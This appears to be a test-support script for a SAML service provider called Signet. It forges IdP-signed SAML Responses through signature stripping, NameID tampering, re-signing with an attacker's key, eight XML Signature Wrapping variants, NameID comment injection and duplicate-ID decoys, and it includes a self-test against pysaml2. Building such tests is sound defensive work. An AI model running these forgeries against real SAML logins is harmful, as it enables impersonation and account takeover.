#!/usr/bin/env python3
"""An attacker's toolkit for Signet's SAML tests: each command alters a SAML Response as
posted by an IdP (tests/clients/saml_idp.py) the way an attacker would, with lxml and
signxml (PyPI). Every result but `comment`'s is one Signet must refuse.

    python3 tests/clients/saml_forge.py COMMAND [OPTIONS] [--response B64]
    python3 tests/clients/saml_forge.py keygen --out DIR
    python3 tests/clients/saml_forge.py selftest

The Response is the base64 SAMLResponse form field, from --response or standard input.
Prints one JSON line: {"saml_response": "<base64 of the result>", "note": "<what was done>"}
(keygen: {"key": "DIR/key.pem", "cert": "DIR/cert.pem"}). A command that cannot apply to
its input (say, a Response wrapping attack on a Response that is not signed) exits 2 with
the reason on stderr.

Commands (NAME is --name-id VALUE, the identity the attacker wants):
  strip              remove every ds:Signature (Response and Assertion unsigned).
  tamper             set the Assertion's Subject/NameID to NAME after signing (digest mismatch).
  resign             set NAME, drop all signatures, sign the Assertion again with the
                     attacker's --key/--cert (enveloped, exclusive c14n, rsa-sha256, sha256,
                     the cert in KeyInfo): well formed, but by a key not in the IdP's metadata.
  xsw1  (signed Response)   the root becomes an evil Response (new ID, NAME) keeping the
                     Signature; an unsigned copy of the original Response goes inside that
                     Signature.
  xsw2  (signed Response)   as xsw1, the original copy placed just before the Signature
                     instead (a detached-looking signature).
  xsw3  (signed Assertion)  an evil unsigned Assertion (new ID, NAME) inserted before the
                     original, as its sibling.
  xsw4  (signed Assertion)  an evil unsigned Assertion (new ID, NAME) takes the original's
                     place and holds the original as its last child.
  xsw5  (signed Assertion)  the original Assertion becomes the evil one (new ID, NAME) still
                     carrying the Signature; an unsigned copy of the original is appended to
                     the Response.
  xsw6  (signed Assertion)  as xsw5, the unsigned copy of the original placed inside the evil
                     Assertion's Signature.
  xsw7  (signed Assertion)  an unsigned evil copy (same ID, NAME) in samlp:Extensions (put
                     where the schema has it, before Status); the original stays signed.
  xsw8  (signed Assertion)  the original Assertion becomes the evil one (same ID, NAME)
                     carrying the Signature; an unsigned copy of the original sits in a
                     ds:Object inside that Signature.
  comment --insert-at N    insert <!----> into the NameID text after its N-th character. The
                     signature stays VALID (exclusive c14n without comments drops it): the SP
                     must read the whole text, not the text before the comment.
  duplicate-id (signed Assertion)  add a decoy element in samlp:Extensions (before the
                     Assertion) carrying the signed Assertion's ID.

The XSW numbering is SAML Raider's (after "On Breaking SAML: Be Whoever You Want to Be",
Somorovsky et al., 2012). The original signed element survives in each wrapped document
as the signer canonicalized it: its enveloped Signature removed where the variant moves
the content away from it, which the enveloped-signature transform removes anyway, so its
digest still matches. The document is re-serialized by lxml, which keeps the IdP's bytes
but for the XML declaration and a final newline.

selftest: runs saml_idp.py's IdP in-process, signs in through its pysaml2 SP, applies every
command through this command line and has pysaml2's SP verify each result; prints what
pysaml2 did with each (and why), whether every signed original survived intact in the
forgeries, and whether resign's signature verifies under the attacker's own cert. It exits
0 when the forging worked, whatever pysaml2 decided ("pysaml2_as_expected" says whether
pysaml2 refused all but comment: it accepts duplicate-id, its xmlsec1 check knowing IDs on
Assertion elements only, so the decoy is inert for it).
"""

import argparse
import base64
import copy
import hashlib
import json
import secrets
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import pinned_venv  # noqa: E402

from saml_requirements import REQUIREMENTS, VENV  # noqa: E402

if __name__ == "__main__":
    pinned_venv.ensure(VENV, REQUIREMENTS)

from lxml import etree  # noqa: E402
from signxml import InvalidSignature, XMLSigner, XMLVerifier  # noqa: E402

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
DECOY_NS = "urn:signet:test:forge"


def q(prefix: str, local: str) -> str:
    return f"{{{NS[prefix]}}}{local}"


class ForgeError(Exception):
    """The command cannot apply to this input."""


# --- reading and writing -------------------------------------------------------------


def load(b64: str):
    try:
        xml = base64.b64decode("".join(b64.split()), validate=True)
    except ValueError as e:
        raise ForgeError(f"the response is not base64: {e}")
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    try:
        root = etree.fromstring(xml, parser)
    except etree.XMLSyntaxError as e:
        raise ForgeError(f"the response is not XML: {e}")
    if root.tag != q("samlp", "Response"):
        raise ForgeError(f"the root is {root.tag}, not samlp:Response")
    return root


def dump(root) -> str:
    return base64.b64encode(etree.tostring(root, xml_declaration=True, encoding="UTF-8")).decode()


# --- finding things ------------------------------------------------------------------


def the_assertion(root):
    found = root.findall("saml:Assertion", NS)
    if len(found) != 1:
        raise ForgeError(f"the Response has {len(found)} plain Assertions, not one")
    return found[0]


def enveloped_signature(elem):
    """The ds:Signature child of `elem` whose Reference is `elem` itself, or None."""
    for sig in elem.findall("ds:Signature", NS):
        ref = sig.find("ds:SignedInfo/ds:Reference", NS)
        if ref is not None and ref.get("URI") == "#" + (elem.get("ID") or ""):
            return sig
    return None


def require_signed(elem, what: str):
    sig = enveloped_signature(elem)
    if sig is None:
        raise ForgeError(f"this variant needs a signed {what}, and the input's {what} is not "
                         f"signed (saml_idp.py --sign {what.lower()} or both makes one)")
    return sig


def name_id(assertion):
    found = assertion.find("saml:Subject/saml:NameID", NS)
    if found is None:
        raise ForgeError("the Assertion has no Subject/NameID")
    return found


def set_name_id(assertion, value: str) -> None:
    node = name_id(assertion)
    for child in list(node):  # comments, if any
        node.remove(child)
    node.text = value


def fresh_id() -> str:
    return "_evil_" + secrets.token_hex(12)


def unsigned_copy(elem):
    """A deep copy of `elem` without its enveloped signature (what the signer digested)."""
    clone = copy.deepcopy(elem)
    sig = enveloped_signature(clone)
    if sig is not None:
        clone.remove(sig)
    return clone


def response_extensions(root):
    """The Response's samlp:Extensions, made where the schema puts it (after Issuer and
    Signature, before Status) if there is none."""
    found = root.find("samlp:Extensions", NS)
    if found is not None:
        return found
    ext = etree.Element(q("samlp", "Extensions"))
    for child in root:
        if child.tag not in (q("saml", "Issuer"), q("ds", "Signature")):
            child.addprevious(ext)
            return ext
    root.append(ext)
    return ext


def need_name(args) -> str:
    if not args.name_id:
        raise ForgeError(f"{args.cmd} needs --name-id VALUE")
    return args.name_id


# --- the commands --------------------------------------------------------------------
# Each takes the parsed Response (and the arguments), changes it or makes a new one, and
# returns (root, note).


def cmd_strip(root, args):
    sigs = list(root.iter(q("ds", "Signature")))
    for sig in sigs:
        sig.getparent().remove(sig)
    return root, f"removed {len(sigs)} signature(s)"


def cmd_tamper(root, args):
    set_name_id(the_assertion(root), need_name(args))
    return root, "NameID changed, signatures left as they were"


def cmd_resign(root, args):
    assertion = the_assertion(root)
    set_name_id(assertion, need_name(args))
    for sig in list(root.iter(q("ds", "Signature"))):
        sig.getparent().remove(sig)
    placeholder = etree.Element(q("ds", "Signature"), Id="placeholder", nsmap={"ds": NS["ds"]})
    assertion.find("saml:Issuer", NS).addnext(placeholder)
    signer = XMLSigner(signature_algorithm="rsa-sha256", digest_algorithm="sha256",
                       c14n_algorithm=EXC_C14N)
    signed = signer.sign(root, key=Path(args.key).read_bytes(), cert=Path(args.cert).read_text(),
                         reference_uri="#" + assertion.get("ID"))
    return signed, "NameID changed, Assertion re-signed with the attacker's key"


def evil_response(root, name: str):
    """XSW1/2's start: the signed Response's Signature and an unsigned copy of the original;
    the root itself becomes the evil Response."""
    sig = require_signed(root, "Response")
    original = unsigned_copy(root)
    set_name_id(the_assertion(root), name)
    root.set("ID", fresh_id())
    return sig, original


def cmd_xsw1(root, args):
    sig, original = evil_response(root, need_name(args))
    sig.append(original)
    return root, "evil Response (new ID); original Response inside its Signature"


def cmd_xsw2(root, args):
    sig, original = evil_response(root, need_name(args))
    sig.addprevious(original)
    return root, "evil Response (new ID); original Response just before its Signature"


def signed_assertion(root):
    assertion = the_assertion(root)
    return assertion, require_signed(assertion, "Assertion")


def evil_copy(assertion, name: str, new_id: bool = True):
    evil = unsigned_copy(assertion)
    if new_id:
        evil.set("ID", fresh_id())
    set_name_id(evil, name)
    return evil


def cmd_xsw3(root, args):
    assertion, _ = signed_assertion(root)
    assertion.addprevious(evil_copy(assertion, need_name(args)))
    return root, "evil unsigned Assertion (new ID) before the original"


def cmd_xsw4(root, args):
    assertion, _ = signed_assertion(root)
    evil = evil_copy(assertion, need_name(args))
    assertion.addprevious(evil)
    evil.append(assertion)  # moves the original inside
    return root, "evil unsigned Assertion (new ID) wrapping the original"


def cmd_xsw5(root, args):
    assertion, _ = signed_assertion(root)
    root.append(unsigned_copy(assertion))
    assertion.set("ID", fresh_id())
    set_name_id(assertion, need_name(args))
    return root, "evil Assertion (new ID) with the Signature; original copy at the Response's end"


def cmd_xsw6(root, args):
    assertion, sig = signed_assertion(root)
    sig.append(unsigned_copy(assertion))
    assertion.set("ID", fresh_id())
    set_name_id(assertion, need_name(args))
    return root, "evil Assertion (new ID) with the Signature; original copy inside that Signature"


def cmd_xsw7(root, args):
    assertion, _ = signed_assertion(root)
    response_extensions(root).append(evil_copy(assertion, need_name(args), new_id=False))
    return root, "evil unsigned Assertion (same ID) in samlp:Extensions; original left signed"


def cmd_xsw8(root, args):
    assertion, sig = signed_assertion(root)
    obj = etree.SubElement(sig, q("ds", "Object"))
    obj.append(unsigned_copy(assertion))
    set_name_id(assertion, need_name(args))
    return root, "evil Assertion (same ID) with the Signature; original copy in its ds:Object"


def cmd_comment(root, args):
    node = name_id(the_assertion(root))
    text = node.text or ""
    if len(node) or not 0 <= args.insert_at <= len(text):
        raise ForgeError(f"--insert-at must be within the NameID text {text!r}")
    marker = etree.Comment("")
    marker.tail = text[args.insert_at:]
    node.text = text[: args.insert_at]
    node.insert(0, marker)
    return root, f"<!----> after character {args.insert_at} of NameID {text!r}; signature kept"


def cmd_duplicate_id(root, args):
    assertion, _ = signed_assertion(root)
    decoy = etree.SubElement(response_extensions(root), f"{{{DECOY_NS}}}Decoy",
                             nsmap={"forge": DECOY_NS})
    decoy.set("ID", assertion.get("ID"))
    return root, "a decoy element in samlp:Extensions carries the signed Assertion's ID"


COMMANDS = {
    "strip": cmd_strip,
    "tamper": cmd_tamper,
    "resign": cmd_resign,
    "xsw1": cmd_xsw1,
    "xsw2": cmd_xsw2,
    "xsw3": cmd_xsw3,
    "xsw4": cmd_xsw4,
    "xsw5": cmd_xsw5,
    "xsw6": cmd_xsw6,
    "xsw7": cmd_xsw7,
    "xsw8": cmd_xsw8,
    "comment": cmd_comment,
    "duplicate-id": cmd_duplicate_id,
}


def keygen(out: str) -> dict:
    import saml_idp  # its key maker: needs no more than this venv has

    directory = Path(out)
    directory.mkdir(parents=True, exist_ok=True)
    key, cert = saml_idp.write_signing_pair(directory, common_name="Signet test attacker")
    return {"key": str(key), "cert": str(cert)}


# --- the self-test -------------------------------------------------------------------
# (which inputs each command gets, and what pysaml2 should do with the result)

ATTACKER_NAME = "admin"
SELFTEST_CASES = [
    ("strip", "assertion"), ("strip", "both"),
    ("tamper", "assertion"), ("tamper", "response"),
    ("resign", "assertion"),
    ("xsw1", "response"), ("xsw1", "both"), ("xsw2", "response"), ("xsw2", "both"),
    ("xsw3", "assertion"), ("xsw4", "assertion"), ("xsw5", "assertion"),
    ("xsw6", "assertion"), ("xsw7", "assertion"), ("xsw8", "assertion"),
    ("comment", "assertion"), ("comment", "response"),
    ("duplicate-id", "assertion"),
]
# Variants given an input they cannot apply to: each must exit non-zero.
SELFTEST_MISFITS = [("xsw1", "assertion"), ("xsw3", "response"), ("duplicate-id", "response")]


def run_cli(args: list, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(Path(__file__).resolve()), *args],
                          input=stdin, capture_output=True, text=True, timeout=60)


def cli_args(cmd: str, attacker: dict) -> list:
    extra = {"resign": ["--key", attacker["key"], "--cert", attacker["cert"]],
             "comment": ["--insert-at", "2"]}.get(cmd, [])
    name = [] if cmd in ("strip", "comment", "duplicate-id") else ["--name-id", ATTACKER_NAME]
    return [cmd, *name, *extra]


def exc_c14n_digest(elem) -> str:
    """sha256 over the exclusive canonical form of `elem` without its enveloped signature
    (the enveloped-signature + exc-c14n transforms of a Reference to it)."""
    c14n = etree.tostring(unsigned_copy(elem), method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.sha256(c14n).digest()).decode()


def signed_originals(root) -> list:
    """(ID, DigestValue) of each enveloped signature in the IdP's Response."""
    out = []
    for elem in [root, *root.findall("saml:Assertion", NS)]:
        sig = enveloped_signature(elem)
        if sig is not None:
            out.append((elem.get("ID"), sig.findtext("ds:SignedInfo/ds:Reference/ds:DigestValue",
                                                     namespaces=NS)))
    return out


def originals_intact(forged, originals: list) -> bool:
    """Whether each signed original still has an element with its ID and digest."""
    for id_, digest in originals:
        copies = forged.xpath("//*[@ID=$id]", id=id_)
        if not any(exc_c14n_digest(c) == digest for c in copies):
            return False
    return True


def verdict(sp, saml_response: str, request_id: str) -> dict:
    from saml_idp import summarize

    try:
        seen = summarize(sp.verify(saml_response, request_id))
    except Exception as e:  # pysaml2 refuses by raising, many kinds
        return {"pysaml2": "refused", "why": refusal(e)}
    return {"pysaml2": "accepted", "name_id": seen["name_id"], "attributes": seen["attributes"]}


def refusal(e: Exception) -> str:
    """pysaml2's reason, short: its SignatureError may hold a whole document."""
    said = e.args[0] if e.args else ""
    if isinstance(said, dict):
        # its "reason" is the repr of a dict: escaped newlines and quotes
        reason = str(said.get("reason", ""))
        start = reason.find("Reason: ")
        detail = reason[start + 8:].split("\\n", 1)[0].replace("\\'", "'") if start >= 0 else ""
        said = said.get("message", "") + (f" ({detail})" if detail else "")
    return f"{type(e).__name__}: {said}"[:300]


def attacker_signature_valid(forged_b64: str, cert_path: str) -> bool:
    """Whether the forged Assertion's signature verifies under the attacker's own cert."""
    try:
        XMLVerifier().verify(base64.b64decode(forged_b64), x509_cert=Path(cert_path).read_text())
        return True
    except InvalidSignature:
        return False


def selftest() -> None:
    import tempfile

    import saml_idp

    saml_idp.quiet_pysaml2()
    alice = saml_idp.User("alice", "alice-password", "alice@example.com")
    out = {"ok": True, "cases": {}, "misfits": {}}
    with tempfile.TemporaryDirectory(prefix="saml-forge-selftest-") as tmp:
        key, cert = saml_idp.write_signing_pair(Path(tmp))
        made = run_cli(["keygen", "--out", str(Path(tmp) / "attacker")])
        assert made.returncode == 0, made.stderr
        attacker = json.loads(made.stdout)
        httpd = saml_idp.start([alice], "assertion", key, cert)
        sp = saml_idp.TestSp(httpd.idp.entity_id)
        try:
            signed = {}
            for mode in saml_idp.SIGN_MODES:
                httpd.idp.sign = mode
                request = sp.signet_like_request(httpd.idp.sso_url, "rs")
                signed[mode] = sp.sign_in(request, alice.name, alice.password, check_wrong=False)
                got = verdict(sp, signed[mode].saml_response, signed[mode].request_id)
                assert got["pysaml2"] == "accepted", (mode, got)
                original = load(signed[mode].saml_response)
                assert originals_intact(original, signed_originals(original)), "bad digest check"
            for cmd, mode in SELFTEST_CASES:
                out["cases"][f"{cmd} ({mode})"] = run_case(sp, cmd, signed[mode], attacker)
            for cmd, mode in SELFTEST_MISFITS:
                res = run_cli(cli_args(cmd, attacker), signed[mode].saml_response)
                out["misfits"][f"{cmd} ({mode})"] = f"exit {res.returncode}: {res.stderr.strip()}"
                out["ok"] &= res.returncode != 0
        finally:
            sp.close()
            httpd.shutdown()
            httpd.server_close()
    cases = out["cases"].values()
    out["ok"] &= all(c["forged"] for c in cases)
    out["pysaml2_as_expected"] = all(c["as_expected"] for c in cases)
    print(json.dumps(out))
    sys.exit(0 if out["ok"] else 1)


def run_case(sp, cmd: str, signed, attacker: dict) -> dict:
    """Forge with the command line (stdin for half the commands, --response for the rest),
    check the originals survived, and ask pysaml2."""
    args = cli_args(cmd, attacker)
    use_stdin = len(cmd) % 2 == 0
    res = run_cli(args, signed.saml_response) if use_stdin else \
        run_cli([*args, "--response", signed.saml_response])
    if res.returncode != 0:
        return {"forged": False, "as_expected": False, "error": res.stderr.strip()}
    forged_b64 = json.loads(res.stdout)["saml_response"]
    case = {"forged": True}
    if cmd.startswith("xsw") or cmd in ("comment", "duplicate-id"):
        originals = signed_originals(load(signed.saml_response))
        case["originals_intact"] = originals_intact(load(forged_b64), originals)
        case["forged"] = case["originals_intact"]
    if cmd == "resign":
        case["attacker_signature_valid"] = attacker_signature_valid(forged_b64, attacker["cert"])
        case["forged"] = case["attacker_signature_valid"]
    case["expect"] = "accepted, NameID alice" if cmd == "comment" else "refused"
    case.update(verdict(sp, forged_b64, signed.request_id))
    if cmd == "comment":
        case["as_expected"] = case["pysaml2"] == "accepted" and case["name_id"] == "alice"
    else:
        case["as_expected"] = case["pysaml2"] == "refused"
    return case


# --- command line --------------------------------------------------------------------


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    cmds = parser.add_subparsers(dest="cmd", required=True)
    for name in COMMANDS:
        sub = cmds.add_parser(name)
        sub.add_argument("--response", help="the base64 SAMLResponse (default: stdin)")
        sub.add_argument("--name-id", help="the NameID the attacker wants")
        if name == "resign":
            sub.add_argument("--key", required=True, help="the attacker's private key (PEM)")
            sub.add_argument("--cert", required=True, help="the attacker's certificate (PEM)")
        if name == "comment":
            sub.add_argument("--insert-at", type=int, required=True)
    cmds.add_parser("keygen").add_argument("--out", required=True)
    cmds.add_parser("selftest")
    args = parser.parse_args()
    if args.cmd == "selftest":
        return selftest()
    if args.cmd == "keygen":
        return print(json.dumps(keygen(args.out)))
    try:
        root = load(args.response if args.response is not None else sys.stdin.read())
        forged, note = COMMANDS[args.cmd](root, args)
    except ForgeError as e:
        print(f"saml_forge.py {args.cmd}: {e}", file=sys.stderr)
        sys.exit(2)
    print(json.dumps({"saml_response": dump(forged), "note": note}))


if __name__ == "__main__":
    main()
